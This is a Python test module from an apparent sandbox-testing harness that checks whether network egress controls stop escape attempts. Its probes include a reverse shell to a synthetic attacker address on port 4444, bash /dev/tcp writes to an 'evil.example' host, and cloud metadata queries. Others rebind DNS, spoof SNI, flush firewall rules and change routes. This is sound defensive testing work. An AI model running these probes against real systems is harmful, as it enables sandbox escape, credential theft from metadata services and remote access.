# Out of the sandbox by packets: addresses, datagrams, odd protocols, changes of the network itself. What comes out is seen on
# the wire of tests/internet, and every attempt has addresses and names there that nobody else uses.

import hashlib
import ipaddress
import socket

from harness.attempt import Skip, attempt, rows
from harness.probe import probe_command
from harness.sandboxes import Options, Run
from harness.world import Heard

NETWORK = r'''
import base64, select, ssl
PROXY = ("127.0.0.1", 3128)
MARK = W.mark.encode()

def attempted(what, doing):
    try:
        return tried(what, doing)
    except (ValueError, struct.error) as problem:  # names that Python itself refuses
        say("refused", what, type(problem).__name__)

def spoken(peer, data, seconds=1.0):
    """Sends, and says what comes back."""
    peer.settimeout(seconds)
    got = b""
    try:
        peer.sendall(data)
        while len(got) < 65536 and (part := peer.recv(65536)):
            got += part
            peer.settimeout(0.15)
    except socket.timeout:
        pass
    say("answer", ascii(got[:400]))
    return len(got)

def dialled(host, port, seconds=3):
    return socket.create_connection((host, port), seconds)

def tell(host, port, data=MARK):
    attempted(f"telling {host!a} port {port}", lambda: spoken(dialled(host, port), data))

def datagram(address, port, data=MARK, family=socket.AF_INET, seconds=0.3):
    def doing():
        with socket.socket(family, socket.SOCK_DGRAM) as wire:
            wire.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            wire.settimeout(seconds)
            wire.sendto(data, (address, port))
            say("answer", ascii(wire.recv(1000)))
    attempted(f"datagram to {address} port {port}", doing)

def request(host, path="/", more="", method="GET"):
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n".encode("latin-1")

def through_connect(host, port):
    peer = dialled(*PROXY)
    name = host if isinstance(host, bytes) else (f"[{host}]" if ":" in host else host).encode("latin-1", "replace")
    peer.sendall(b"CONNECT " + name + b":%d HTTP/1.1\r\nHost: " % port + name + b":%d\r\n\r\n" % port)
    got = b""
    while b"\r\n\r\n" not in got:
        part = peer.recv(4096)
        if not part:
            break
        got += part
    if not got.startswith((b"HTTP/1.1 200", b"HTTP/1.0 200")):
        say("answer", ascii(got[:400]))
        raise OSError(errno.EACCES, "refused by the proxy")
    return peer

def through_socks(host, port, kind=3, command=1):
    peer = dialled(*PROXY)
    peer.sendall(b"\x05\x01\x00")
    peer.recv(2)
    name = host if isinstance(host, bytes) else host.encode("latin-1", "replace")
    address = bytes([len(name)]) + name if kind == 3 else socket.inet_pton({1: socket.AF_INET, 4: socket.AF_INET6}[kind], host)
    peer.sendall(b"\x05" + bytes([command, 0, kind]) + address + struct.pack("!H", port))
    got = peer.recv(300)
    if got[1:2] != b"\0":
        say("answer", ascii(got))
        raise OSError(errno.EACCES, "refused by the proxy")
    return peer

def ways(host, port, data=MARK):
    """Directly, and through every kind of proxy."""
    tell(host, port, data)
    for way in (through_connect, through_socks):
        attempted(f"{way.__name__} {host!a} port {port}", lambda: spoken(way(host, port), data))

def secured(peer, name, protocols=()):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(protocols)
    return context.wrap_socket(peer, server_hostname=name)
'''


def network(name, number, tries, probe, also=None, ready=None, allow=(), egress="", environment=None, extra=(), record=(), **more):
    """An attempt that runs beside the Internet. It escaped when its mark or its own addresses came by, or when `also` says so.

    In the probe, W.foe and W.foe6 are its addresses, W.evil a name that has its mark in it, W.alias the mark without its first
    word, and W.service a port of the machine where a service tells the secret."""
    def prepare(world):
        if world.net is None:
            raise Skip("no Internet for this test: " + world.why_no_net)
        digest = hashlib.sha256(world.mark.encode()).digest()
        world.foe = f"93.186.{digest[0]}.{digest[1] % 254 + 1}"
        world.foe6 = str(ipaddress.ip_address(f"2606:2800:666::{digest[2]:x}:{digest[3] + 1:x}"))
        world.alias, world.evil = world.mark[5:], world.mark + ".evil.example"
        world.service = serve(world)
        world.words = {"foe": world.foe, "foe6": world.foe6, "evil": world.evil, "alias": world.alias, "service": world.service, "secret_length": len(world.secret)}
        if ready:
            ready(world)
        world.since = world.net.now()

    def escaped(world, run):
        seen = came_by(world)
        if world.secret in run.out:
            seen.append("a service of the machine was reached")
        if also:
            seen += also(world, run) or []
        return "; ".join(map(str, seen[:5]))

    options = lambda world: Options(egress=egress, extra=extra, environment=environment(world) if environment else {},  # noqa: E731
                                    allow=tuple(host.format(**world.words) for host in allow))
    attempt(name, number, tries, probe=probe if probe.startswith("#!") else NETWORK + probe, prepare=prepare, escaped=escaped, options=options,
            record=record, part="network", **more)


def came_by(world):
    """What is this attempt's own, and still was seen outside."""
    arrived = world.net.arrived(world.mark, world.since)
    return [brief(row) for row in arrived] + [brief(row) for row in world.net.packets(world.since) if row["address"] in (world.foe, world.foe6)]


def brief(row):
    where = row.get("name") or row.get("host") or row.get("address") or ""
    return f"{row['kind']} {where} {row.get('target') or row.get('port') or ''}".strip()


def serve(world):
    """A service on the machine, on all its addresses."""
    server = socket.socket(socket.AF_INET6)
    server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    server.bind(("::", 0))
    world.closing.append(Heard(server, socket.SOCK_STREAM, world.secret).close)
    return server.getsockname()[1]


def addressed(world, *addresses):
    return [brief(row) for row in world.net.packets(world.since) if row["address"] in addresses]


def denied(port=None, address=None, host=None):
    """The record has a refused connection like this; words are given as functions of the world. A proxy is told an address as it
    is told a name, so it may stand in either place."""
    def check(world, report):
        wanted = (address or host or (lambda _: None))(world)
        found = rows(report, "network", decision="deny", **({"port": port} if port else {}))
        fits = [row for row in found if wanted is None or wanted in (row["address"], row["host"]) or row["address"].startswith(f"{wanted}:")]
        return "" if fits else f"no denied row of {wanted or 'anybody'} port {port or 'any'} under \"network\""
    return check


foe = lambda world: world.foe  # noqa: E731
foe6 = lambda world: world.foe6  # noqa: E731
evil = lambda world: world.evil  # noqa: E731


network("direct-addresses", 50, "connects to an address of the Internet, at ports of all kinds",
        probe="for port in (80, 443, 22, 25, 53, 853, 4444, 7000, 3128, 12345, 65535, 1): tell(W.foe, port)",
        record=(denied(7000, foe), denied(22, foe), denied(65535, foe)))

network("direct-addresses-ipv6", 50, "the same by IPv6",
        probe="for port in (80, 443, 22, 25, 53, 853, 7000, 12345): tell(W.foe6, port)",
        record=(denied(7000, foe6),))

network("datagrams", 50, "sends datagrams: QUIC, NTP, STUN, VPNs, whatever port",
        probe="""
quic = bytes([0xC3]) + b"\\0\\0\\0\\1\\x08" + bytes(8) + b"\\x08" + MARK[:8] + MARK + bytes(1200)
for port in (443, 123, 3478, 4500, 51820, 9999, 12345): datagram(W.foe, port, quic); datagram(W.foe6, port, quic, socket.AF_INET6)
datagram(W.foe, 53)
""",
        record=(denied(443, foe), denied(443, foe6)))

network("pings", 50, "puts data into ICMP echoes",
        probe="""
for family, protocol, address, kind in ((socket.AF_INET, 1, W.foe, 8), (socket.AF_INET6, 58, W.foe6, 128)):
    for what in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        packet = bytes([kind, 0]) + bytes(6) + MARK
        attempted(f"ping {address}", lambda: socket.socket(family, what, protocol).sendto(packet, (address, 0)))
os.system(f"ping -c 1 -W 1 -p {MARK[:16].hex()} {W.foe} 2>&1")
""")

network("shells-network", 50, "uses the shell's own /dev/tcp and /dev/udp",
        probe="""#!/bin/sh
for there in tcp/$foe/7000 udp/$foe/9999 tcp/$foe/80 tcp/$evil/80; do
    timeout -s KILL 1 bash -c "exec 3<>/dev/$there && echo $mark >&3 && head -c 20 <&3" 2>&1
done
exit 0
""")

network("without-proxy-variables", 62, "drops, overrides and mistrusts every proxy variable, and every certificate",
        probe="""
for name in list(os.environ):
    if "proxy" in name.lower(): del os.environ[name]
os.environ |= {"NO_PROXY": "*", "no_proxy": "*", "GIT_SSL_NO_VERIFY": "1", "NODE_TLS_REJECT_UNAUTHORIZED": "0", "PYTHONHTTPSVERIFY": "0"}
for words in (["curl", "-sk", "-m2", "--noproxy", "*", f"http://{W.foe}/{W.mark}"], ["curl", "-sk", "-m2", f"https://{W.foe}/{W.mark}"],
              ["curl", "-sk", "-m2", f"https://{W.evil}/"], ["curl", "-sk", "-m2", "--resolve", f"allowed.example:443:{W.foe}", "https://allowed.example/"],
              ["curl", "-sk", "-m2", "--connect-to", f"allowed.example:443:{W.foe}:443", "https://allowed.example/"],
              ["curl", "-sk", "-m2", "--interface", "lo", f"http://{W.foe}/"], ["wget", "-q", "-T2", "-t1", "-O-", f"http://{W.foe}/"],
              ["git", "ls-remote", f"http://{W.evil}/git/x.git"]):
    try: say(words[0], subprocess.run(words, capture_output=True, timeout=5).returncode)
    except (OSError, subprocess.TimeoutExpired) as problem: say(type(problem).__name__)
""", allow=("allowed.example",))

network("reverse-shell", 63, "connects out and hands its terminal over",
        probe="""
def doing():
    peer = dialled(W.foe, 4444)
    if os.fork() == 0:
        for number in range(3): os.dup2(peer.fileno(), number)
        os.execv("/bin/sh", ["sh", "-c", "echo " + W.mark])
    os.wait()
attempted("shell", doing)
""", record=(denied(4444, foe),))

network("odd-transports", "own", "SCTP, DCCP, UDP-Lite, MPTCP, raw and packet sockets, tunnels",
        probe="""
def raw(family, kind, protocol, address):
    def doing():
        wire = socket.socket(family, kind, protocol)
        wire.settimeout(0.5)
        if kind == socket.SOCK_STREAM or kind == 6:
            wire.connect((address, 7000)); wire.sendall(MARK)
        else:
            wire.sendto(MARK + bytes(40), (address, 7000 if kind == socket.SOCK_DGRAM else 0))
    attempted(f"family {family} kind {kind} protocol {protocol}", doing)
for family, address in ((socket.AF_INET, W.foe), (socket.AF_INET6, W.foe6)):
    for kind, protocol in ((socket.SOCK_STREAM, 132), (socket.SOCK_SEQPACKET, 132), (6, 33), (socket.SOCK_DGRAM, 136), (socket.SOCK_STREAM, 262),
                           (socket.SOCK_RAW, 255), (socket.SOCK_RAW, 6), (socket.SOCK_RAW, 17), (socket.SOCK_RAW, 47), (socket.SOCK_RAW, 4), (socket.SOCK_RAW, 253)):
        raw(family, kind, protocol, address)
def frames():
    wire = socket.socket(17, socket.SOCK_RAW, 0x300)
    for number, name in socket.if_nameindex():
        attempted("frame on " + name, lambda: wire.sendto(b"\\xff" * 12 + b"\\x88\\xb5" + MARK, (name, 0)))
attempted("packet socket", frames)
""")

network("fast-open-and-urgent", "own", "puts data into the very first packet, and out of band",
        probe="""
def fast(family, address):
    with socket.socket(family) as peer:
        peer.settimeout(2)
        peer.sendto(MARK, 0x20000000, (address, 7000))
        say(peer.recv(100))
attempted("fast open", lambda: fast(socket.AF_INET, W.foe))
attempted("fast open 6", lambda: fast(socket.AF_INET6, W.foe6))
def urgent():
    with dialled(W.foe, 7000) as peer:
        for byte in MARK: peer.send(bytes([byte]), socket.MSG_OOB)
        peer.send(MARK)
attempted("urgent", urgent)
""", record=(denied(7000, foe),))

network("half-closed", "own", "sends, closes its half, and waits for the answer",
        probe="""
def doing(where):
    with where() as peer:
        peer.sendall(MARK); peer.shutdown(socket.SHUT_WR); say("answer", peer.recv(100))
attempted("half", lambda: doing(lambda: dialled(W.foe, 7001)))
attempted("half by name", lambda: doing(lambda: dialled(W.evil, 7001)))
""")

network("addresses-in-addresses", "own", "writes an IPv4 address as an IPv6 one: mapped, NAT64, 6to4, Teredo, compatible",
        probe="""
four = socket.inet_aton(W.foe)
forms = [b"\\0" * 10 + b"\\xff\\xff" + four, b"\\0\\x64\\xff\\x9b" + bytes(8) + four, b"\\x20\\x02" + four + bytes(10), bytes(12) + four,
         b"\\x20\\x01\\0\\0" + bytes(8) + bytes(255 - b for b in four), b"\\0\\x64\\xff\\x9b\\0\\x01" + bytes(6) + four]
for form in forms:
    text = socket.inet_ntop(socket.AF_INET6, form)
    tell(text, 7000)
    datagram(text, 9999, family=socket.AF_INET6)
""")

network("chosen-sources", "own", "binds to devices and source addresses, sets marks and options that routes look at",
        probe="""
def bound(what, *settings, source=None):
    def doing():
        with socket.socket() as peer:
            peer.settimeout(2)
            for level, name, value in settings: peer.setsockopt(level, name, value)
            if source: peer.bind((source, 0))
            peer.connect((W.foe, 7000)); peer.sendall(MARK); say(peer.recv(100))
    attempted(what, doing)
for number, name in socket.if_nameindex():
    bound("device " + name, (socket.SOL_SOCKET, 25, name.encode() + b"\\0"))
    bound("interface " + name, (0, 50, struct.pack("!I", number)))
for mark in (1, 0xBA, 0x2A, 0xFFFFFFFF): bound(f"mark {mark}", (socket.SOL_SOCKET, 36, struct.pack("I", mark)))
bound("transparent", (0, 19, 1)); bound("freebind", (0, 15, 1), source="151.101.7.99"); bound("source 127", source="127.0.0.1")
bound("priority", (socket.SOL_SOCKET, 12, 6)); bound("dont route", (socket.SOL_SOCKET, 5, 1)); bound("source route", (0, 4, b"\\x83\\x07\\x04" + socket.inet_aton(W.foe) + b"\\0"))
""")

network("own-network-settings", "own", "changes routes, rules, addresses, interfaces and filters of its network",
        probe="""
def message(kind, flags, body, protocol=0):
    def doing():
        wire = socket.socket(16, socket.SOCK_RAW, protocol)
        wire.sendto(struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body, (0, 0))
        code = struct.unpack_from("i", wire.recv(4096), 16)[0]
        if code: raise OSError(-code, "netlink")
    attempted(f"netlink {kind}", doing)
foe = struct.pack("HH", 8, 1) + socket.inet_aton(W.foe)
message(24, 0x605, struct.pack("BBBBBBBBI", 2, 32, 0, 0, 254, 4, 0, 1, 0) + foe)   # a route
message(25, 0x5, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 255, 2, 254, 2, 0))          # no route
message(20, 0x605, struct.pack("BBBBI", 2, 24, 0, 0, 1) + foe)                     # an address
message(32, 0x605, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 1, 0))          # a rule
message(16, 0x605, struct.pack("BxHiII", 0, 0, 0, 1, 1))                           # an interface
message(0xA02, 0x5, struct.pack("BBH", 0, 0, 0), protocol=12)                      # no filter
for name in ("ip_forward", "conf/all/route_localnet", "conf/lo/accept_local", "ip_nonlocal_bind", "ip_default_ttl"):
    write("/proc/sys/net/ipv4/" + name, "1")
for words in ("ip route flush table all", "ip rule flush", "nft flush ruleset", "iptables -F", "ip link set lo down", f"ip route add {W.foe} dev lo"):
    try: say(words, subprocess.run(words.split(), capture_output=True, timeout=5).returncode)
    except OSError: say("no", words)
tell(W.foe, 7000)
""", nested="ip link set lo up", also=lambda w, run: [line for line in run.out.splitlines() if line.startswith(("worked netlink", "worked writing"))],
        record=(denied(7000, foe),))

network("everyone-nearby", "own", "multicast and broadcast: mDNS, SSDP, LLMNR, WS-Discovery",
        probe="""
for address, port in (("224.0.0.251", 5353), ("239.255.255.250", 1900), ("224.0.0.252", 5355), ("239.255.255.250", 3702), ("255.255.255.255", 9999), ("151.101.7.255", 9999)):
    datagram(address, port)
for address in ("ff02::fb", "ff05::2", "ff0e::1"): datagram(address, 5353, family=socket.AF_INET6)
""")

network("a-hundred-at-once", "own", "hundreds of connections at the same time, in the hope that one slips through",
        probe="""
peers = []
for n in range(400):
    peer = socket.socket(socket.AF_INET6 if n % 4 == 0 else socket.AF_INET)
    peer.setblocking(False)
    peer.connect_ex((W.foe6 if n % 4 == 0 else W.foe, (80, 443, 7000, 9000 + n)[n % 4 if n % 8 else 3]))
    peers.append(peer)
end = time.monotonic() + 2
while peers and time.monotonic() < end:
    _, ready, _ = select.select([], peers, [], 0.1)
    for peer in ready:
        try: peer.send(MARK)
        except OSError: pass
        peers.remove(peer)
""")

network("metadata", "own", "asks the cloud's metadata service: by address, by name, through the proxy, with a name that was allowed",
        allow=("metadata.example:80", "metadata6.example:80"),
        probe="""
for host in ("169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "metadata.example", "metadata6.example", "169.254.169.254.nip.io", "2852039166", "0xa9fea9fe"):
    ways(host.strip("[]"), 80, request(host, "/latest/" + W.mark))
tell("169.254.170.2", 80, request("x", "/" + W.mark)); tell("100.100.100.200", 80, request("x", "/" + W.mark)); tell("fd00:ec2::254", 80, request("x", "/" + W.mark))
""",
        also=lambda w, run: addressed(w, "169.254.169.254", "fd00:ec2::254", "169.254.170.2"),
        record=(denied(80, lambda w: "169.254.169.254"), denied(80, host=lambda w: "metadata.example")))

network("private-addresses", "own", "reaches private networks by address, directly and through the proxy",
        probe="""
for host in ("10.66.0.7", "172.16.66.7", "192.168.66.7", "100.64.66.7", "169.254.66.7", "fd00:66::7", "fec0::7", "192.0.2.7", "198.51.100.7", "240.0.0.7", "0.0.0.7"):
    ways(host, 7000)
""",
        also=lambda w, run: addressed(w, "10.66.0.7", "172.16.66.7", "192.168.66.7", "100.64.66.7", "fd00:66::7"),
        record=(denied(7000, lambda w: "10.66.0.7"),))

LEADING = ("private10", "private172", "private192", "shared", "loopback-far", "zero", "multicast", "broadcast", "documents", "pool", "loopback6", "mapped", "ula",
           "linklocal6", "nat64", "sixtofour", "chain-inside")

network("names-that-lead-inside", "own", "allowed names that lead to private, loopback, link-local, reserved and wrapped addresses",
        allow=tuple(f"{name}.example:7000" for name in LEADING) + ("private-in-hosts.example:7000",),
        probe=f"for name in {LEADING!r}: tell(name + '.example', 7000)\n" + "tell('private-in-hosts.example', 7000)\nways('private10.example', 7000)",
        also=lambda w, run: addressed(w, "172.16.66.1", "192.168.66.1", "100.64.66.1", "203.0.113.66", "198.18.0.66", "fd00:66::1", "64:ff9b::a42:1", "2002:a42:1::1", "10.66.0.9"),
        record=(denied(7000, host=lambda w: "private10.example"),))

network("mixed-answer", "own", "an allowed name that has a public and a private address",
        allow=("mixed.example:7000",),
        probe="for n in range(6): ways('mixed.example', 7000, b'hello')\ntell('10.66.0.2', 7000)",
        also=lambda w, run: addressed(w, "10.66.0.2"))

network("rebinding", "own", "an allowed name that leads to the Internet first and to the machine afterwards",
        allow=("rebind-{alias}.example:{service}", "rebind-{alias}.example:7000"),
        probe="""
for n in range(6):
    tell(f"rebind-{W.alias}.example", W.service, b"hello")
    attempted("proxy", lambda: spoken(through_connect(f"rebind-{W.alias}.example", W.service), b"hello"))
    time.sleep(0.2)
""")

network("services-of-the-machine", "own", "reaches services that listen on the machine: every spelling of itself, directly and through the proxy",
        allow=("machine.example:{service}", "loopback.example:{service}", "localhost:{service}"),
        probe="""
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "::", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "::ffff:127.0.0.1", "localhost.", "LOCALHOST", "127.66.66.66",
             "localhost.localdomain", "ip6-localhost", socket.gethostname(), "151.101.7.10", "2a04:4e42:7::10", "machine.example", "loopback.example"):
    ways(host, W.service, b"hello")
""", record=(denied(address=lambda w: "151.101.7.10"),))

network("pool-addresses", "own", "goes to addresses of the kind that names are given inside, though no name has them",
        probe="for host in ('198.18.0.0', '198.18.0.1', '198.18.200.7', '198.19.255.255', '198.18.66.66'): ways(host, 7000)",
        also=lambda w, run: addressed(w, "198.18.66.66", "198.18.200.7"))

network("borrowed-name", "own", "goes to an address of its own choice and says an allowed name there",
        allow=("allowed.example", "allowed.example:80"),
        probe="""
attempted("Host", lambda: spoken(dialled(W.foe, 80), request("allowed.example", "/x")))
attempted("SNI", lambda: spoken(secured(dialled(W.foe, 443), "allowed.example"), request("allowed.example", "/x")))
attempted("SNI 6", lambda: spoken(secured(dialled(W.foe6, 443), "allowed.example"), request("allowed.example", "/x")))
attempted("CONNECT", lambda: spoken(secured(through_connect(W.foe, 443), "allowed.example"), request("allowed.example", "/x")))
attempted("SOCKS", lambda: spoken(secured(through_socks(W.foe, 443, 1), "allowed.example"), request("allowed.example", "/x")))
attempted("URL", lambda: spoken(dialled(*PROXY), request("allowed.example", f"http://{W.foe}/x")))
""", record=(denied(443, foe),))

network("resolver-settings", "own", "aliases, search lists and resolvers of its own choice",
        allow=("allowed.example",),
        probe="""
with open("/tmp/aliases-" + W.alias, "w") as file: file.write(f"allowed {W.evil}\\n")
os.environ |= {"HOSTALIASES": "/tmp/aliases-" + W.alias, "LOCALDOMAIN": "evil.example " + W.evil, "RES_OPTIONS": "ndots:9 use-vc"}
for host in ("allowed", "allowed.example", "other"):
    say(subprocess.run(["getent", "ahosts", host], capture_output=True, text=True).stdout)
os.unlink("/tmp/aliases-" + W.alias)
""")


def listens_on_all(world, sandbox):
    """Inbound: nothing that a program opens inside is to be reached from the machine."""
    if world.net is None:
        raise Skip("no Internet for this test: " + world.why_no_net)
    port = 20000 + int(world.mark[5:9], 16) % 20000
    child = sandbox.start(world, probe_command(world, f"""
six = socket.socket(socket.AF_INET6); six.setsockopt(41, 26, 0); six.bind(("::", {port})); six.listen()
def proxied(kind, host):
    peer = socket.create_connection(("127.0.0.1", 3128), 2)
    peer.sendall(b"\\x05\\x01\\x00"); peer.recv(2)
    peer.sendall(b"\\x05\\x02\\x00\\x01" + socket.inet_aton(host) + struct.pack("!H", {port}))  # BIND
    say("bind", peer.recv(100))
tried("bind by SOCKS", lambda: proxied(1, "0.0.0.0"))
say("listening")
sys.stdin.readline()
"""), Options(stdin=-1))
    try:
        while b"listening" not in (line := child.stdout.readline()):
            if not line:
                raise RuntimeError("the probe did not start: " + child.communicate()[1].decode())
        reached = []
        for address in ("127.0.0.1", "::1", "151.101.7.10", "2a04:4e42:7::10", "127.5.5.5", "198.18.0.1"):
            with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as client:
                client.settimeout(0.5)
                if client.connect_ex((address, port)) == 0:
                    reached.append(address)
    finally:
        child.communicate(b"\n", timeout=30)
    return ", ".join(reached), Run(report=sandbox.report(world), mode=sandbox.mode)


attempt("inside-listens-on-every-address", 63, "opens ports on all addresses, also by asking the proxy, and waits for somebody from outside",
        act=listens_on_all, part="network")
